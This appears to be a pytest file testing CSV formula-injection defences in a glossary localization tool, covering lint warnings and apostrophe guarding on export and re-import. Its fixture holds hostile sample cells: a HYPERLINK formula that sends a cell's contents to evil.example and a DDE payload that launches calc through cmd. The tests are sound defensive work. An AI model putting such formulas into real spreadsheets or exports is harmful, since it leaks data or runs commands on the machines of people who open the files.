"""CSV formula injection: glossary cells a spreadsheet would run are flagged by
``glossary lint`` and written guarded by every CSV we write; reading drops the guard.
A formula proper (a function call or a cell reference) is read as no value at all."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from prlocalize.glossary.csvfile import parse_csv, write_csv_text
from prlocalize.glossary.values import formula_risk, guard_formula, unguard_formula

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
GLOSSARY = f"""\
id,kind,en,ja,note
term:evil,term,Shonan iPark,"{HOSTILE.replace('"', '""')}",
term:san,term,-san,さん,honorific suffix
term:dde,term,Widget,ウィジェット,"-2+3+cmd|' /C calc'!A0"
term:at,term,@prlocalize,@prlocalize,"+81 3 1234 5678"
term:tab,term,Tabbed,"\tタブ",
term:neg,term,-1,マイナス1,a plain number stays
"""


@pytest.mark.parametrize(
    ("cell", "risky"),
    [
        ("=1+1", True),
        ("+81 3 1234", True),
        ("-san", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("-1", False),
        ("+81", False),
        ("-1.5", False),
        ("Shonan iPark", False),
        ("上野 裕明", False),
        ("", False),
        ("'=1", False),
    ],
)
def test_formula_risk_follows_owasp(cell: str, risky: bool) -> None:
    assert formula_risk(cell) is risky
    guarded = guard_formula(cell)
    assert guarded == ("'" + cell if risky or cell.startswith("'=") else cell)
    assert unguard_formula(guarded) == cell  # the round trip is exact


def test_an_apostrophe_that_guards_nothing_is_kept() -> None:
    assert unguard_formula("'90s") == "'90s"
    assert unguard_formula("'-1") == "'-1"


def test_lint_warns_about_every_formula_cell(run_cli, tmp_path: Path) -> None:
    path = tmp_path / "g.csv"
    path.write_text(GLOSSARY, encoding="utf-8")
    result = run_cli("glossary", "lint", str(path), "--format", "json")
    # a formula with a function or a reference is read as none of its value (the sheet was
    # saved with its formulas shown): 'formula-text'; any other risky start: 'formula'
    codes = {"formula", "formula-text"}
    problems = [p for p in json.loads(result.stdout)["problems"] if p["code"] in codes]
    where = sorted((p["line"], p["column"]) for p in problems)
    assert where == [(2, "ja"), (3, "en"), (4, "note"), (5, "en"), (5, "ja"), (5, "note"),
                     (6, "ja")]  # fmt: skip
    assert all(p["level"] == "warning" for p in problems)
    text = run_cli("glossary", "lint", str(path))
    assert "a spreadsheet opening this file runs it as a formula" in text.stdout


def test_written_csv_has_no_formula_cell_and_reads_back_the_same(run_cli, tmp_path: Path) -> None:
    source = tmp_path / "g.csv"
    source.write_text(GLOSSARY, encoding="utf-8")
    # CSV -> TBX -> CSV through the CLI: the CSV we write is safe to open in a spreadsheet
    assert run_cli("glossary", "export", str(source), "-o", str(tmp_path / "g.tbx")).exit_code == 0
    out = tmp_path / "back.csv"
    assert run_cli("glossary", "import", str(tmp_path / "g.tbx"), "-o", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not any(formula_risk(cell) for cell in cells), cells
    assert "'-san" in cells and "-1" in cells
    assert not any(HOSTILE in cell for cell in cells)  # read as no value: never written
    # and reads back to the very values it was made from, without the apostrophes
    original = {e.id: e for e in parse_csv(GLOSSARY, "g.csv").entries}
    again = {e.id: e for e in parse_csv(out.read_text(encoding="utf-8"), "back.csv").entries}
    assert original == again
    assert again["term:san"].forms["en"].text == "-san"
    assert "ja" not in again["term:evil"].forms
    # the guarded file lints clean of formulas
    lint = run_cli("glossary", "lint", str(out), "--format", "json")
    assert not [p for p in json.loads(lint.stdout)["problems"] if p["code"] == "formula"]


def test_write_csv_text_guards_lists_and_notes() -> None:
    entries = parse_csv(GLOSSARY, "g.csv").entries
    text = write_csv_text(entries)
    assert "'-2+3+cmd" in text and "'+81 3 1234 5678" in text
    assert ",タブ," in text  # the reader strips the tab from a form: nothing left to guard
